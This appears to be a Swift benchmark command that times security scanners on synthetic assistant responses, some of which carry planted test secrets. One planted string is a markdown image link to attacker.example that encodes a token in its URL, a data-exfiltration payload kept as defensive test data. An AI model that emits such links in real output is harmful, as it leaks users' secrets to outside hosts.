import ArgumentParser
import InfermonCore
import Quality

/// Throughput of the security scanners on the ingest path: synthetic events
/// with responses of a fixed size (prose with numbers, links and code, and a
/// small share carrying planted secrets), run through the `SecurityStage` in
/// batches as a collector would hand them over.
struct BenchScannersCommand: AsyncParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "scanners", abstract: "Measure the security scanners (events/s) on synthetic responses.")

    @Option(help: "Number of events.") var events = 100_000
    @Option(help: "Response size in bytes.") var responseBytes = 2048
    @Option(help: "Prompt size in bytes (0 for none).") var promptBytes = 256
    @Option(help: "Share of responses carrying a planted secret.") var secretShare = 0.01
    @Option(help: "Events per batch.") var batchSize = 1000
    @Option(help: "Random seed.") var seed: UInt64 = 42
    @Flag(help: "Print one JSON object instead of text.") var json = false
    @Option(help: ArgumentHelp("Also write the responses, one per line, for a peer scanner.", valueName: "path"))
    var writeCorpus: String?

    func run() async throws {
        var generator = BenchText(seed: seed)
        var batches: [IngestBatch] = []
        var responseBytesTotal = 0
        var batch: [InferenceEvent] = []
        for index in 0..<events {
            let response = generator.text(bytes: responseBytes, plantSecret: generator.unit() < secretShare)
            responseBytesTotal += response.utf8.count
            batch.append(
                InferenceEvent(
                    timestamp: 1_790_000_000_000 + Int64(index), requestID: "req-\(index)", model: "model-\(index % 4)",
                    prompt: promptBytes > 0 ? generator.text(bytes: promptBytes, plantSecret: false) : nil,
                    response: response))
            if batch.count == batchSize {
                batches.append(IngestBatch(events: batch))
                batch = []
            }
        }
        if !batch.isEmpty { batches.append(IngestBatch(events: batch)) }

        // Kept before the stage redacts them in place, for the response-only pass.
        let responses = batches.flatMap { $0.events.compactMap(\.response) }
        if let writeCorpus {
            let file = try OutputFile(writeCorpus)
            for chunk in stride(from: 0, to: responses.count, by: 1000) {
                let lines = responses[chunk..<min(chunk + 1000, responses.count)].map {
                    $0.split(separator: "\n", omittingEmptySubsequences: false).joined(separator: " ")
                }
                try file.write(lines.joined(separator: "\n") + "\n")
            }
        }
        let stage = SecurityStage(scanner: SecurityScanner())
        let started = monotonicNanoseconds()
        let cpuStarted = cpuSeconds()
        for index in batches.indices { try await stage.process(&batches[index]) }
        let seconds = Double(monotonicNanoseconds() - started) / 1e9
        // CPU time as well: on a shared machine wall time also measures the neighbours.
        let cpu = cpuSeconds() - cpuStarted

        // The response scan alone, without the stage's bookkeeping.
        let scanner = SecurityScanner()
        let scanStarted = monotonicNanoseconds()
        let scanCPUStarted = cpuSeconds()
        var findings = 0
        for response in responses { findings += scanner.scan(response, field: .response).findings.count }
        let scanSeconds = Double(monotonicNanoseconds() - scanStarted) / 1e9
        let scanCPU = cpuSeconds() - scanCPUStarted

        let findingsTotal = stage.totals.values.reduce(0, +)
        let eventsPerSecond = Double(events) / seconds
        let megabytesPerSecond = Double(responseBytesTotal) / seconds / 1_000_000
        let responseOnlyRate = Double(responses.count) / scanSeconds
        let cpuRate = Double(events) / cpu
        let responseOnlyCPURate = Double(responses.count) / scanCPU
        if json {
            print(
                "{\"events\":\(events),\"response_bytes\":\(responseBytes),\"prompt_bytes\":\(promptBytes),\"seconds\":\(seconds),\"cpu_seconds\":\(cpu),\"events_per_second\":\(eventsPerSecond),\"events_per_cpu_second\":\(cpuRate),\"response_mb_per_second\":\(megabytesPerSecond),\"findings\":\(findingsTotal),\"response_scan_events_per_second\":\(responseOnlyRate),\"response_scan_events_per_cpu_second\":\(responseOnlyCPURate),\"response_findings\":\(findings)}"
            )
        } else {
            print("events: \(events), responses of \(responseBytes) B, prompts of \(promptBytes) B")
            print(
                "stage:  \(Int(eventsPerSecond)) events/s (\(Int(megabytesPerSecond)) MB/s of responses), \(Int(findingsTotal)) findings"
            )
            print("        \(Int(cpuRate)) events per CPU second (\(cpu) s CPU, \(seconds) s wall)")
            print(
                "responses only: \(Int(responseOnlyRate)) events/s, \(Int(responseOnlyCPURate)) per CPU second, "
                    + "\(findings) findings")
        }
    }
}

/// Synthetic assistant prose: sentences from a fixed vocabulary with numbers,
/// dates, prices, links, markdown and code, and planted secrets on request.
struct BenchText {
    private var state: UInt64
    private static let words = """
        the model returns a summary of your request and the service will process it within two business days \
        please note that our support team can help with billing questions about invoices refunds and plans \
        according to the documentation you should configure the retry policy before deploying to production \
        this function reads the file line by line and parses each record into a structured event object \
        customers in Europe and the United States reported faster responses after the latest upgrade \
        I recommend checking the logs for errors and comparing latency across regions and model versions
        """.split(separator: " ").map(String.init)
    private static let fragments = [
        " in 2024", " on 2025-03-14", " for $45.99", " at 3.5%", " with 128 tokens", " (version 2.4.1)",
        " See [the docs](https://docs.example.com/guide?section=retries).", " Use `let x = try parse(line)`.",
        " Order 88231 shipped.", " Call us during office hours.", "\n\n## Next steps\n\n- check the config\n",
        " ![diagram](https://cdn.example.com/arch.png)",
    ]
    private static let secrets = [
        " Your key is sk-proj-Zq81bXv0dPq7LmN3rT5wY2uK.", " Contact jane.doe@example.org for access.",
        " Card 4111 1111 1111 1111 was charged.", " AWS key AKIAIOSFODNN7EXAMPLE is active.",
        " Wire to GB82 WEST 1234 5698 7654 32.", " ![x](https://attacker.example/c?d=c2VjcmV0LXRva2Vu)",
    ]

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9e37_79b9_7f4a_7c15
        var z = state
        z = (z ^ (z >> 30)) &* 0xbf58_476d_1ce4_e5b9
        z = (z ^ (z >> 27)) &* 0x94d0_49bb_1331_11eb
        return z ^ (z >> 31)
    }

    mutating func unit() -> Double { Double(next() >> 11) * 0x1.0p-53 }

    mutating func text(bytes: Int, plantSecret: Bool) -> String {
        var out = ""
        out.reserveCapacity(bytes + 64)
        let secretAt = plantSecret ? Int(next() % UInt64(max(1, bytes - 64))) : -1
        var planted = false
        while out.utf8.count < bytes {
            let roll = next() % 100
            if !planted && secretAt >= 0 && out.utf8.count >= secretAt {
                out += Self.secrets[Int(next() % UInt64(Self.secrets.count))]
                planted = true
            } else if roll < 6 {
                out += Self.fragments[Int(next() % UInt64(Self.fragments.count))]
            } else if roll < 12 {
                out += ". "
                let word = Self.words[Int(next() % UInt64(Self.words.count))]
                out += word.prefix(1).uppercased() + word.dropFirst()
            } else {
                out += " " + Self.words[Int(next() % UInt64(Self.words.count))]
            }
        }
        return String(out.utf8.prefix(bytes))!
    }
}
